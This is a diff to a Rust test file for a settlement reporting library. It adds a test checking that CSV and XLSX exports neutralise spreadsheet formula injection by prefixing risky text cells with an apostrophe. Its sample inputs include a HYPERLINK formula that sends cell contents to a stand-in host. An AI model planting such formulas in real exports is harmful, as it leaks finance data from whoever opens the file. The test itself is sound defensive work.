@@ -1,9 +1,8 @@
 //! Reports: period splitting, DST, month end, rounding allocation, formats.
 //! Expected amounts are hand-computed in comments.
 
-mod common;
+use crate::common::*;
 use chrono::{Datelike, NaiveDate};
-use common::*;
 use settlement::reports::{csv::to_csv, to_json, xlsx::to_xlsx};
 use settlement::{
     AccountId, Config, EndReason, Input, LeaseId, LeaseStart, Ledger, Period, SettlementError,
@@ -687,4 +686,71 @@ fn a_one_second_charge_prints_zero_not_negative_zero() {
     assert!(!csv.contains("-0.00"), "{csv}");
     let json = String::from_utf8(to_json(&s).expect("json")).expect("utf8");
     assert!(!json.contains("-0.00"), "{json}");
+}
+
+/// Issue 25: a text cell that begins with `=`, `+`, `-`, `@`, tab or CR is a formula to the
+/// spreadsheet finance opens the export in (a client-chosen `X-Request-Id`
+/// `=HYPERLINK(…)` in the audit trail, a legal name in an invoice). CSV and XLSX write such a
+/// cell with a leading `'`; other text, and numbers (a negative amount is a number cell, not
+/// text), are unchanged; JSON is not a spreadsheet and keeps the text.
+#[test]
+fn text_cells_that_a_spreadsheet_reads_as_formulas_are_neutralised_in_csv_and_xlsx() {
+    use settlement::reports::table::{Cell, FORMULA_PREFIXES, Table, formula_safe};
+    let evil = [
+        "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tcmd",
+        "\rcmd",
+    ];
+    assert_eq!(evil.len(), FORMULA_PREFIXES.len());
+    for (e, p) in evil.iter().zip(FORMULA_PREFIXES) {
+        assert!(e.starts_with(p), "{e:?} covers {p:?}");
+        assert_eq!(formula_safe(e), format!("'{e}"));
+    }
+    for plain in ["北京算力科技有限公司", "req-1=2", "a-b", "", "'=already"] {
+        assert_eq!(formula_safe(plain), plain, "{plain:?} is left as it is");
+    }
+    let mut rows: Vec<Vec<Cell>> = evil
+        .iter()
+        .map(|e| vec![Cell::Text(e.to_string()), Cell::Money(d("-12.30"))])
+        .collect();
+    rows.push(vec![Cell::Text("plain".into()), Cell::Number(d("-0.5"))]);
+    let table = Table {
+        name: "audit".into(),
+        header: vec!["request_id", "amount_cny"],
+        rows,
+    };
+    let csv = String::from_utf8(to_csv(&table).expect("csv")).expect("utf-8");
+    let mut reader = ::csv::ReaderBuilder::new().from_reader(csv.as_bytes());
+    let read: Vec<Vec<String>> = reader
+        .records()
+        .map(|r| r.expect("record").iter().map(str::to_string).collect())
+        .collect();
+    for (row, e) in read.iter().zip(evil) {
+        assert_eq!(row[0], format!("'{e}"), "CSV text cell {e:?}");
+        assert_eq!(row[1], "-12.30", "a negative amount stays a number");
+    }
+    assert_eq!(read[evil.len()], vec!["plain", "-0.5"]);
+
+    let xlsx = to_xlsx(&[table]).expect("xlsx");
+    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).expect("xlsx is a zip");
+    let mut strings = String::new();
+    std::io::Read::read_to_string(
+        &mut zip.by_name("xl/sharedStrings.xml").expect("shared strings"),
+        &mut strings,
+    )
+    .expect("utf-8");
+    for e in ["=HYPERLINK(", "+1+1", "-2+3", "@SUM(A1:A9)"] {
+        assert!(
+            strings.contains(&format!("'{e}")),
+            "XLSX holds '{e}: {strings}"
+        );
+        assert!(
+            !strings.contains(&format!(">{e}")),
+            "XLSX holds {e} bare: {strings}"
+        );
+    }
+    assert!(strings.contains(">plain<"), "{strings}");
 }
